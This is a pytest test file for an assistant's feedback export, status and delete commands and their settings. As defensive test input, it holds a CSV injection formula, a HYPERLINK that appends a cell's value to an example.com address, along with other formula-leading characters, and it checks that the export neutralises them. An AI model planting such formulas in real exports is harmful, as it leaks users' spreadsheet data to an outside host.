"""`feedback export`, `status` and `delete` as a user runs them, and the settings that they follow."""

from __future__ import annotations

import csv
import json
from dataclasses import asdict, replace
from pathlib import Path

import pytest

from assistant.config import ConfigError, load_settings
from assistant.feedback import COLUMNS, FeedbackEntry, FeedbackStore
from assistant.feedback_csv import defused
from tests.assistant.test_feedback import abstention, answered
from tests.conftest import Run
from tests.test_commands import assert_explained


@pytest.fixture
def data(tmp_path: Path) -> Path:
    """A data folder with one entry of each sort."""
    store = FeedbackStore(tmp_path / "data", 180)
    store.record_unanswered(abstention("渡轮多少钱？"))
    store.record_unanswered(replace(answered("When, and for how much?"), status="partial"))
    store.record_verdict(answered(), "wrong", 'no; it says "1932",\nsecond line')
    return tmp_path / "data"


def exported(command: Run, data: Path, out: Path) -> list[dict[str, str]]:
    result = command("feedback", "export", "--out", out, PLAN_ASSISTANT_DATA=str(data))
    assert (result.returncode, result.stderr) == (0, "")
    assert result.stdout.startswith(f"{out}: ")
    with out.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def row(entry: FeedbackEntry) -> dict[str, str]:
    places = {name: json.dumps(asdict(entry)[name], ensure_ascii=False) for name in ("citations", "nearest")}
    return {**asdict(entry), "verdict": entry.verdict or "", **places}


def test_an_export_reads_back_equal(command: Run, data: Path, tmp_path: Path):
    out = tmp_path / "feedback.csv"
    rows = exported(command, data, out)
    assert rows == [row(entry) for entry in FeedbackStore(data, 180).entries()]
    assert [(each["kind"], each["verdict"]) for each in rows] == [("unanswered", ""), ("unanswered", ""), ("verdict", "wrong")]
    assert rows[0]["question"] == "渡轮多少钱？"
    assert rows[2]["comment"] == 'no; it says "1932",\nsecond line'
    assert json.loads(rows[2]["citations"]) == [
        {"n": 1, "source": "harbour-bridge", "start": 100, "end": 128, "quote": "The bridge was built in 1931"}
    ]
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    assert out.stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "  =", "\u3000="])
def test_a_cell_that_a_spreadsheet_would_run_is_defused(sign: str):
    assert defused(f"{sign}1+1") == f"'{sign}1+1"


@pytest.mark.parametrize("cell", ["", "a=b", "2020", "“quoted”", "[]", "'=1"])
def test_any_other_cell_stays_as_it_is(cell: str):
    assert defused(cell) == cell


def test_formulas_in_question_answer_and_comment_are_defused_in_the_file(command: Run, tmp_path: Path):
    store = FeedbackStore(tmp_path / "data", 180)
    formula = '=HYPERLINK("http://example.com/?"&A1;"see")'
    store.record_verdict(replace(answered(formula), answer="\t+1"), "missing", "@SUM(A1)")
    (only,) = exported(command, tmp_path / "data", tmp_path / "a.CSV")
    assert (only["question"], only["standalone_question"]) == (f"'{formula}", f"'{formula}")
    assert (only["answer"], only["comment"]) == ("'\t+1", "'@SUM(A1)")


def test_an_export_of_nothing_has_the_names_of_the_columns_and_makes_no_data(command: Run, tmp_path: Path):
    out = tmp_path / "none.csv"
    assert exported(command, tmp_path / "data", out) == []
    assert out.read_bytes() == b"\xef\xbb\xbf" + ",".join(f'"{name}"' for name in COLUMNS).encode() + b"\r\n"
    assert not (tmp_path / "data").exists()


def test_an_export_replaces_an_older_one_only_when_it_is_whole(command: Run, data: Path, tmp_path: Path):
    out = tmp_path / "feedback.csv"
    out.write_text("older", encoding="utf-8")
    assert len(exported(command, data, out)) == 3
    before = out.read_bytes()
    (data / "feedback.sqlite3").write_bytes(b"damaged " * 1000)
    result = command("feedback", "export", "--out", out, PLAN_ASSISTANT_DATA=str(data))
    assert_explained(result, 1, "is damaged; move it away")
    assert out.read_bytes() == before
    assert sorted(path.name for path in tmp_path.iterdir()) == ["data", "feedback.csv"]


def test_status_says_how_much_of_what_since_when_and_where(command: Run, data: Path):
    result = command("feedback", "status", PLAN_ASSISTANT_DATA=str(data), PLAN_ASSISTANT_FEEDBACK_DAYS="90")
    since = next(FeedbackStore(data, 90).entries()).time
    assert result.stdout == (
        f"Feedback {data / 'feedback.sqlite3'}: 3 entries since {since}\n"
        "Without an answer: 1 not in the sources, 1 half answered\n"
        "Said of answers: 0 right, 1 wrong, 0 missing\n"
        "Kept for 90 days.\n"
    )
    status = json.loads(
        command("feedback", "status", "--json", PLAN_ASSISTANT_DATA=str(data), PLAN_ASSISTANT_FEEDBACK="0").stdout
    )
    assert status == {
        "file": str(data / "feedback.sqlite3"),
        "on": False,
        "days": 180,
        "entries": 3,
        "unanswered": {"not_in_sources": 1, "partial": 1},
        "verdicts": {"right": 0, "wrong": 1, "missing": 0},
        "since": since,
    }


def test_status_of_nothing_and_off(command: Run, tmp_path: Path):
    result = command("feedback", "status", PLAN_ASSISTANT_DATA=str(tmp_path / "data"), PLAN_ASSISTANT_FEEDBACK="false")
    assert (result.returncode, result.stderr) == (0, "")
    assert result.stdout.splitlines()[0].endswith(": 0 entries")
    assert result.stdout.splitlines()[-1] == "Feedback is off: nothing more is kept."


def test_delete_asks_and_does_as_it_is_told(command: Run, data: Path):
    kept = {"PLAN_ASSISTANT_DATA": str(data)}
    for answer in ("n\n", "\n", ""):
        result = command("feedback", "delete", stdin=answer, **kept)
        assert (result.returncode, result.stdout) == (1, "")
        assert result.stderr.startswith("Delete 3 entries from ")
        assert result.stderr.endswith("Nothing was deleted; answer y, or add --yes where nobody can answer.\n")
    assert FeedbackStore(data, 180).summary().entries == 3
    result = command("feedback", "delete", stdin="y\n", **kept)
    assert (result.returncode, result.stdout) == (0, "3 entries deleted.\n")
    assert "渡轮".encode() not in (data / "feedback.sqlite3").read_bytes()


def test_delete_with_yes_asks_nothing(command: Run, data: Path, tmp_path: Path):
    result = command("feedback", "delete", "--yes", PLAN_ASSISTANT_DATA=str(data))
    assert (result.returncode, result.stdout, result.stderr) == (0, "3 entries deleted.\n", "")
    result = command("feedback", "delete", PLAN_ASSISTANT_DATA=str(tmp_path / "none"))
    assert (result.returncode, result.stdout, result.stderr) == (0, "0 entries deleted.\n", "")


def test_wrong_usage_is_explained(command: Run, tmp_path: Path):
    assert_explained(command("feedback", "export"), 2, "--out", "--help")
    assert_explained(command("feedback", "export", "--out", tmp_path / "a.xlsx"), 2, ".csv", "--help")
    assert_explained(command("feedback", "export", "--out", tmp_path), 2, "--out")
    assert_explained(command("feedback", "burn"), 2, "burn", "--help")


def test_what_cannot_be_written_or_read_is_explained(command: Run, data: Path, tmp_path: Path):
    kept = {"PLAN_ASSISTANT_DATA": str(data)}
    assert_explained(command("feedback", "export", "--out", tmp_path / "none" / "a.csv", **kept), 1, "name another file")
    (tmp_path / "file").touch()
    assert_explained(command("feedback", "export", "--out", tmp_path / "file" / "a.csv", **kept), 1, "name another file")
    (data / "feedback.sqlite3").write_bytes(b"damaged " * 1000)
    for arguments in (("status",), ("status", "--json"), ("delete", "--yes")):
        assert_explained(command("feedback", *arguments, **kept), 1, "is damaged; move it away")


@pytest.mark.parametrize("arguments", [(), ("export",), ("status",), ("delete",)])
def test_each_has_help(command: Run, arguments: tuple[str, ...]):
    result = command("feedback", *arguments, "--help")
    assert (result.returncode, result.stderr) == (0, "")
    assert result.stdout.startswith("Usage: ")


def test_the_settings_come_from_the_environment_before_the_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    assert (load_settings().feedback, load_settings().feedback_days) == (True, 180)
    file = tmp_path / "mine.toml"
    file.write_text("feedback = false\nfeedback_days = 7\n", encoding="utf-8")
    monkeypatch.setenv("PLAN_ASSISTANT_CONFIG", str(file))
    assert (load_settings().feedback, load_settings().feedback_days) == (False, 7)
    monkeypatch.setenv("PLAN_ASSISTANT_FEEDBACK", "true")
    monkeypatch.setenv("PLAN_ASSISTANT_FEEDBACK_DAYS", "3650")
    assert (load_settings().feedback, load_settings().feedback_days) == (True, 3650)


@pytest.mark.parametrize(
    ("name", "value"), [("FEEDBACK", "perhaps"), ("FEEDBACK_DAYS", "0"), ("FEEDBACK_DAYS", "3651"), ("FEEDBACK_DAYS", "x")]
)
def test_a_setting_out_of_bounds_is_named(command: Run, monkeypatch: pytest.MonkeyPatch, name: str, value: str):
    monkeypatch.setenv(f"PLAN_ASSISTANT_{name}", value)
    with pytest.raises(ConfigError, match=f"The setting {name.lower()} is not usable"):
        load_settings()
    assert_explained(command("feedback", "status"), 1, name.lower())
